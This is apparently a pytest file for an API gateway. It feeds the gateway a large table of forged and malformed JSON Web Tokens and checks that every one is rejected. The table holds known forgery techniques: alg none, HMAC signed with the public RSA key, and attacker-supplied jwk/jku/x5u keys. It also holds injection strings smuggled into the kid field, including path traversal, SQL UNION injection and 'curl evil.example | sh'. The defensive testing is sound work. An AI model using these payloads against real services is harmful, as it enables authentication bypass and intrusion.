"""Tokens that nobody should believe: each is refused before the body is read, and nothing is asked upstream for it."""

import hmac
import json
import re
import string
from collections.abc import AsyncIterator, Callable, Mapping, Sequence
from contextlib import asynccontextmanager
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from joserfc import jwe
from joserfc.jwk import OctKey, RSAKey
from joserfc.util import urlsafe_b64decode
from starlette.types import Message

from gateway.identity.tokens import TOLD
from gateway.sandbox import Sandbox, SandboxTransport, Switches, create_sandbox
from tests.conftest import NOON, PREFLIGHT, Gateway, serving
from tests.issuing import (
    ABSENT,
    AUDIENCE,
    CLAIMS,
    ISSUER,
    JWKS_URL,
    JWT,
    OWN,
    Publisher,
    bearing,
    coded,
    pair,
    public,
    signed,
)
from tests.issuing import token as told

ISSUERS, STRANGERS, OTHER = pair("RSA"), pair("RSA", 4), pair("RSA", 2)
CURVE, EDWARDS, SMALL = pair("P-256"), pair("Ed25519"), pair("RSA-1024")
SECRET = OctKey.import_key("a secret of at least thirty-two characters")
HEAD: dict[str, object] = {"alg": "RS256", "kid": "k1"}
PUBLISHED = [
    public(ISSUERS),
    public(CURVE, "ec", use="sig"),
    public(EDWARDS, "ed", alg="EdDSA"),
    public(OTHER, "pss", alg="PS256"),
    public(SMALL, "small"),
    public(OTHER, "enc", use="enc"),
    public(OTHER, "wrap", key_ops=["wrapKey"]),
    {**SECRET.as_dict(), "kid": "oct", "alg": "HS256"},
]


def said(header: Mapping[str, object] | bytes, key: Any = ISSUERS, algorithm: str = "RS256") -> str:
    """Return a token with this header, and the signature that belongs to it: the issuer's, if nothing else is said."""
    return signed(CLAIMS, header if isinstance(header, bytes) else {**HEAD, **header}, key, algorithm)


def forged(**header: object) -> str:
    return said(header, STRANGERS)


def written(claims: str | bytes) -> str:
    """Return a token whose claims are this text, with the issuer's signature."""
    return signed(claims if isinstance(claims, bytes) else claims.encode(), HEAD, ISSUERS)


def hashed(secret: bytes | str, kid: str = "k1", algorithm: str = "HS256") -> str:
    text = secret if isinstance(secret, bytes) else secret.encode()
    content = f"{coded({**HEAD, 'alg': algorithm, 'kid': kid})}.{coded(CLAIMS)}"
    return f"{content}.{coded(hmac.digest(text, content.encode(), f'sha{algorithm[2:]}'))}"


def unsigned(algorithm: object, signature: str = "") -> str:
    return f"{coded({**HEAD, 'alg': algorithm})}.{coded(CLAIMS)}.{signature}"


def altered(place: int, change: Callable[[str], str]) -> str:
    parts = told().split(".")
    parts[place] = change(parts[place])
    return ".".join(parts)


def swapped(text: str) -> str:
    """Return base64url of the same bytes, with other bits where none are to be."""
    alphabet = string.ascii_uppercase + string.ascii_lowercase + string.digits + "-_"
    return text[:-1] + alphabet[alphabet.index(text[-1]) ^ 1]


def curved(form: Callable[[bytes], bytes]) -> str:
    content, _, signature = said({"alg": "ES256", "kid": "ec"}, CURVE, "ES256").rpartition(".")
    return f"{content}.{coded(form(urlsafe_b64decode(signature.encode())))}"


def der(both: bytes) -> bytes:
    return encode_dss_signature(int.from_bytes(both[:32], "big"), int.from_bytes(both[32:], "big"))


def encrypted() -> str:
    assert isinstance(ISSUERS, RSAKey)
    methods = ["RSA-OAEP", "A128GCM"]
    return jwe.encrypt_compact(
        {"alg": methods[0], "enc": methods[1], "kid": "k1"}, json.dumps(CLAIMS), ISSUERS, methods
    )


PEM, DER = ISSUERS.as_pem(), ISSUERS.as_der()
MODULUS = str(public(ISSUERS)["n"])
CLAIMS_TEXT = json.dumps(CLAIMS)

ATTACKS: dict[str, str] = {
    # no signature
    "alg none": unsigned("none"),
    **{f"alg {name}, with a signature": unsigned(name, "AAAA") for name in ("none", "None", "nOnE", "NONE", "", "0")},
    "alg none, signed": said({"alg": "none"}),
    "no alg": said({"alg": ABSENT}),
    "alg a list": said({"alg": ["RS256"]}),
    "alg null": said({"alg": None}),
    "alg a number": said({"alg": 256}),
    "alg in lower case": said({"alg": "rs256"}),
    "alg unknown": said({"alg": "RS257"}),
    "signature stripped": told().rpartition(".")[0],
    "signature empty": told().rpartition(".")[0] + ".",
    "signature of zeros": altered(2, lambda _: "A" * 342),
    "signature cut": altered(2, lambda text: text[:-4]),
    "signature longer": altered(2, lambda text: text + "AAAA"),
    # a secret where there is none
    "HS256 with the public key in PEM": hashed(PEM),
    "HS256 with the public key in PEM, stripped": hashed(PEM.strip()),
    "HS384 with the public key in PEM": hashed(PEM, algorithm="HS384"),
    "HS512 with the public key in DER": hashed(DER, algorithm="HS512"),
    "HS256 with the public JWK": hashed(json.dumps(public(ISSUERS))),
    "HS256 with the public JWK, compact": hashed(json.dumps(public(ISSUERS), separators=(",", ":"))),
    "HS256 with the modulus": hashed(urlsafe_b64decode(MODULUS.encode())),
    "HS256 with the modulus as text": hashed(MODULUS),
    "HS256 with a published secret": said({"alg": "HS256", "kid": "oct"}, SECRET, "HS256"),
    # another algorithm, another key
    "an algorithm that the key is not for": said({"kid": "pss"}, OTHER),
    "an algorithm of another kind of key": said({"kid": "ec"}),
    "an algorithm of another curve": said({"alg": "ES384", "kid": "ec"}, pair("P-384"), "ES384"),
    "PS256 said, RS256 signed": said({"alg": "PS256"}),
    "RS512 said, RS256 signed": said({"alg": "RS512"}),
    "EdDSA by a key of a curve": said({"alg": "EdDSA", "kid": "ec"}, EDWARDS, "EdDSA"),
    "Ed448": said({"alg": "EdDSA", "kid": "ed"}, pair("Ed448"), "Ed448"),
    "ES256K": said({"alg": "ES256K", "kid": "ec"}, CURVE, "ES256"),
    "a key too small": said({"kid": "small"}, SMALL),
    "a key for encryption": said({"kid": "enc"}, OTHER),
    "a key for other operations": said({"kid": "wrap"}, OTHER),
    "a stranger's key": forged(),
    "a stranger's key, unnamed": forged(kid=ABSENT),
    "kid of another key": said({"kid": "k1"}, OTHER),
    "ES256 in DER": curved(der),
    "ES256 of nothing": curved(lambda _: bytes(64)),
    "ES256 with r and s too long": curved(lambda both: b"\0" + both[:32] + b"\0" + both[32:]),
    # kid
    "kid a path": said({"kid": "../../../../dev/null"}),
    "kid a path, HS256 with nothing": hashed(b"\0", "../../../../dev/null"),
    "kid a query": said({"kid": "k1' UNION SELECT 'secret' -- "}),
    "kid a command": said({"kid": "k1; curl evil.example | sh"}),
    "kid an address": said({"kid": "https://evil.example/keys"}),
    "kid of an object in JavaScript": said({"kid": "__proto__"}),
    "kid with a zero": said({"kid": "k1\0"}),
    "kid in upper case": said({"kid": "K1"}),
    "kid empty": said({"kid": ""}),
    "kid huge": said({"kid": "k" * 3000}),
    "kid beyond its bound": said({"kid": "k" * 257}),
    "kid a number": said({"kid": 1}),
    "kid a list": said({"kid": ["k1"]}),
    "kid an object": said({"kid": {"k1": "k1"}}),
    "kid null": said({"kid": None}),
    "kid true": said({"kid": True}),
    # keys that a token brings along
    "jwk": forged(jwk=public(STRANGERS)),
    "jwk, with its own kid": forged(kid="mine", jwk=public(STRANGERS, "mine")),
    "jwk, unnamed": forged(kid=ABSENT, jwk=public(STRANGERS, None)),
    "jku": forged(kid="mine", jku="https://evil.example/keys"),
    "jku below the issuer's": forged(jku=f"{JWKS_URL}/../open?redirect=https://evil.example"),
    "x5u": forged(kid="mine", x5u="https://evil.example/certificate"),
    "x5c": forged(x5c=["MIIB", *("A" * 100 for _ in range(3))]),
    "x5t": forged(kid="mine", x5t="AAAA"),
    # what a header demands
    "crit": said({"crit": ["exp"], "exp": 1}),
    "crit empty": said({"crit": []}),
    "crit of no list": said({"crit": 1}),
    "crit null": said({"crit": None}),
    "b64 false": said({"b64": False}),
    "b64 false and critical": said({"b64": False, "crit": ["b64"]}),
    "b64 of no boolean": said({"b64": 0}),
    "typ of a logout token": said({"typ": "logout+jwt"}),
    "typ of no string": said({"typ": 1}),
    # what a token is not
    "nothing": "",
    "a word": "demo",
    "two parts": ".".join(told().split(".")[:2]),
    "four parts": told() + ".AAAA",
    "five parts": told() + ".AAAA.AAAA",
    "an empty part before": "." + told(),
    "dots": "." * 5000,
    "JWE": encrypted(),
    "JSON serialization": json.dumps({"payload": coded(CLAIMS), "signatures": []}),
    "a token in a token": written(unsigned("none", "AAAA")),
    "a signed token in a token": signed(told().encode(), {**HEAD, "cty": "JWT"}, ISSUERS),
    "padding": told() + "==",
    "padding within": altered(1, lambda text: text + "="),
    "base64 that is not base64url": altered(2, lambda _: "+/" * 171),
    "bits where none are to be": altered(2, swapped),
    "bits in the header where none are to be": altered(0, swapped),
    "a blank within": told()[:40] + " " + told()[40:],
    "a tab behind": told() + "\t",
    "a comma and another": f"{told()}, {told()}",
    "header altered": altered(0, lambda _: coded({**HEAD, "typ": "JWT"})),
    "claims altered": altered(1, lambda _: coded({**CLAIMS, "sub": "bob"})),
    "claims of another token": altered(1, lambda _: told(sub="bob").split(".")[1]),
    "8193 characters": told(filler="x" * 6000)[:8193],
    "huge, and well signed": told(filler="x" * 8000),
    "huge": "A" * 20_000 + "." + "A" * 20_000 + ".AAAA",
    # JSON that is read in more than one way
    "no JSON": written("alice"),
    "JSON of a list": written(f"[{CLAIMS_TEXT}]"),
    "JSON null": written("null"),
    "JSON with more behind it": written(CLAIMS_TEXT + "{}"),
    "a claim twice": written(CLAIMS_TEXT[:-1] + ', "sub": "bob"}'),
    "exp twice": written('{"exp": 1, ' + CLAIMS_TEXT[1:]),
    "a member of the header twice": said(b'{"alg": "none", "alg": "RS256", "kid": "k1"}'),
    "kid twice": said(b'{"alg": "RS256", "kid": "k2", "kid": "k1"}'),
    "deeply nested": written("[" * 5000),
    "a deeply nested header": said(b"[" * 5000),
    "a number of many digits": written(CLAIMS_TEXT[:-1] + f', "n": {"9" * 5000}}}'),
    "bad UTF-8": written(CLAIMS_TEXT.encode().replace(b"alice", b"al\xffce")),
    "bad UTF-8 in the header": said(b'{"alg": "RS256", "kid": "k1", "x": "\xff"}'),
    "UTF-16": written(CLAIMS_TEXT.encode("utf-16")),
    "a mark of byte order": written(CLAIMS_TEXT.encode("utf-8-sig")),
    "a header of no object": said(b'["RS256", "k1"]'),
    # claims
    **{f"no {name}": told(**{name: ABSENT}) for name in ("iss", "aud", "exp", "sub")},
    **{f"{name} null": told(**{name: None}) for name in ("iss", "aud", "exp", "sub", "nbf", "iat", "scope", "scp")},
    **{f"{name} a number": told(**{name: 1}) for name in ("iss", "aud", "sub", "scope", "scp")},
    "another issuer": told(iss="https://evil.example/"),
    "an issuer that begins alike": told(iss=ISSUER + "evil"),
    "an issuer without its last character": told(iss=ISSUER[:-1]),
    "an issuer in upper case": told(iss=ISSUER.upper()),
    "issuers": told(iss=[ISSUER]),
    "another audience": told(aud="billing"),
    "an audience that begins alike": told(aud=AUDIENCE + "-admin"),
    "other audiences": told(aud=["billing", "shipping"]),
    "an audience within another": told(aud=f"billing {AUDIENCE}"),
    "audiences with one of no string": told(aud=[AUDIENCE, 1]),
    "audience an object": told(aud={AUDIENCE: True}),
    "no audiences": told(aud=[]),
    "an empty subject": told(sub=""),
    "a subject of no string": told(sub=["alice"]),
    "a scope of no string": told(scp=["kpi:read", 1]),
    "expired": told(exp=int(NOON)),
    "expired long ago": told(exp=1),
    "expired before time began": told(exp=-1e300),
    "exp a string": told(exp=str(int(NOON) + 7200)),
    "exp true": told(exp=True),
    "exp a list": told(exp=[int(NOON) + 7200]),
    "exp NaN": written(CLAIMS_TEXT.replace(str(CLAIMS["exp"]), "NaN")),
    "a claim NaN that does not count": written(CLAIMS_TEXT[:-1] + ', "n": [NaN]}'),
    "exp Infinity": written(CLAIMS_TEXT.replace(str(CLAIMS["exp"]), "Infinity")),
    "exp beyond all numbers": written(CLAIMS_TEXT.replace(str(CLAIMS["exp"]), "1e999")),
    "exp of many digits": told(exp=10**400),
    "exp huge": told(exp=1e300),
    "exp in milliseconds": told(exp=(int(NOON) + 7200) * 1000),
    "not valid yet": told(nbf=int(NOON) + 2000),
    "nbf a string": told(nbf="0"),
    "nbf true": told(nbf=True),
    "nbf huge": told(nbf=1e300),
    "issued in the future": told(iat=int(NOON) + 2000),
    "iat a string": told(iat="now"),
}


NOT_BEARERS: Mapping[str, Sequence[tuple[str, str]]] = {
    "nothing": [],
    "nothing in it": [("Authorization", "")],
    "Basic": [("Authorization", "Basic YWxpY2U6aHVudGVyMg==")],
    "Basic with a token": [("Authorization", f"Basic {told()}")],
    "DPoP": [("Authorization", f"DPoP {told()}")],
    "a token alone": [("Authorization", told())],
    "a scheme that begins alike": [("Authorization", f"Bearers {told()}")],
    "a tab for the blank": [("Authorization", f"Bearer\t{told()}")],
    "a key": [("X-Api-Key", "demo")],
    "a token for a key": [("X-Api-Key", told())],
    "a cookie": [("Cookie", f"Authorization=Bearer {told()}; ss-tok={told()}")],
    "another header": [("X-Authorization", f"Bearer {told()}"), ("Proxy-Authorization", f"Bearer {told()}")],
}
"""No token in the one place where it has to be."""

AMBIGUOUS: Mapping[str, Sequence[tuple[str, str]]] = {
    "two tokens": [("Authorization", f"Bearer {told()}"), ("Authorization", f"Bearer {told(sub='bob')}")],
    "a token and none": [("Authorization", f"Bearer {told()}"), ("Authorization", "Bearer ")],
    "beyond ASCII": [("Authorization", f"Bearer {told()}\xe9")],
}


@asynccontextmanager
async def guarded(**settings: object) -> AsyncIterator[tuple[Gateway, Sandbox, Publisher]]:
    """Run a gateway that a good token opens, before an upstream that answers anyone."""
    sandbox, publisher = create_sandbox(Switches(auth="none")), Publisher(*PUBLISHED)
    async with serving(SandboxTransport(sandbox), publisher, **JWT, **settings) as gateway:
        reply = await gateway.kpis([1], headers=bearing(told()))
        assert (reply.status, len(sandbox.calls), len(publisher.asked)) == (200, 1, 1)
        yield gateway, sandbox, publisher


async def knock(gateway: Gateway, given: Sequence[tuple[str, str]]) -> tuple[int, str, str]:
    """Return the status, the error's code, and the challenge; whoever reads the body fails."""

    async def receive() -> Message:
        raise AssertionError("the body was read")

    async def send(message: Message) -> None:
        sent.append(message)

    sent: list[Message] = []
    lines = [(b"content-type", b"application/json"), *((n.lower().encode(), v.encode("latin-1")) for n, v in given)]
    scope = {"type": "http", "method": "POST", "path": "/graphql", "query_string": b"", "headers": lines}
    await gateway.app(scope, receive, send)
    (error,) = json.loads(sent[1]["body"])["errors"]
    challenge = dict(sent[0]["headers"]).get(b"www-authenticate", b"").decode()
    return sent[0]["status"], error["extensions"]["code"], challenge


@pytest.mark.parametrize("settings", [{}, OWN], ids=["forward", "own"])
async def test_no_token_of_the_table_is_believed(settings: dict[str, object]) -> None:
    believed = {}
    async with guarded(**settings) as (gateway, sandbox, publisher):
        for name, text in ATTACKS.items():
            status, code, challenge = await knock(gateway, [("Authorization", f"Bearer {text}")])
            words = re.fullmatch(
                r'Bearer realm="graphql", error="invalid_token", error_description="([^"\\]+)"', challenge
            )
            if (status, code) != (401, "UNAUTHENTICATED") or not words or words[1] not in TOLD.values():
                believed[name] = status, code, challenge
        assert believed == {}
        assert (len(sandbox.calls), len(publisher.asked)) == (1, 1)


async def test_who_shows_no_token_is_told_what_is_wanted_and_not_what_is_wrong() -> None:
    async with guarded() as (gateway, sandbox, _):
        answers = {name: await knock(gateway, given) for name, given in NOT_BEARERS.items()}
        assert answers == dict.fromkeys(NOT_BEARERS, (401, "UNAUTHENTICATED", 'Bearer realm="graphql"'))
        assert len(sandbox.calls) == 1


async def test_headers_that_can_be_read_in_more_than_one_way_are_no_request() -> None:
    async with guarded() as (gateway, sandbox, _):
        answers = {name: await knock(gateway, given) for name, given in AMBIGUOUS.items()}
        assert answers == dict.fromkeys(AMBIGUOUS, (400, "BAD_REQUEST", ""))
        assert len(sandbox.calls) == 1


async def test_a_token_in_the_address_is_none() -> None:
    async with guarded() as (gateway, sandbox, _):
        query = {"query": "{ customer(id: 1) { kpi { totalItems } } }", "access_token": told()}
        response = await gateway.http.get("/graphql", params=query, headers=PREFLIGHT)
        assert (response.status_code, len(sandbox.calls)) == (401, 1)


async def test_nothing_of_a_token_is_in_its_refusal_or_in_the_log(caplog: pytest.LogCaptureFixture) -> None:
    text = told(exp=1, sub="hunter2", iss="https://hunter2.test/")
    caplog.set_level("DEBUG")
    async with guarded() as (gateway, _, _):
        reply = await gateway.kpis([1], headers=bearing(text))
    assert reply.status == 401
    for part in ("hunter2", *text.split(".")):
        assert part not in f"{reply.body} {reply.headers} {caplog.text}"
